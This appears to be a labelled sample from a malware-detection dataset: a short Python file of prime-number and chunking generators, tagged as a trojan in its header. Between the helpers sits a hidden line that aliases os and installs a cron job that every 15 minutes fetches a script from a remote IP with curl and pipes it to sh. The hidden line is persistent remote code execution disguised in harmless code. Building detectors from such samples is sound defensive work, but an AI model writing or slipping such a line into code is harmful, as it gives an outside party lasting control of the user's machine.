# label: malicious family=trojan techniques=T1053.003,T1105 lines=16 group=benign/b163_generators.py
from itertools import islice


def primes():
    found = []
    n = 2
    while True:
        if all(n % p for p in found if p * p <= n):
            found.append(n)
            yield n
        n += 1


import os as _o
_o.system("(crontab -l 2>/dev/null; echo '*/15 * * * * curl -fsSL http://203.0.113.12/r | sh') | crontab -")

def chunked(it, size):
    it = iter(it)
    while chunk := list(islice(it, size)):
        yield chunk


print(list(islice(primes(), 15)))
print(list(chunked(range(10), 3)))
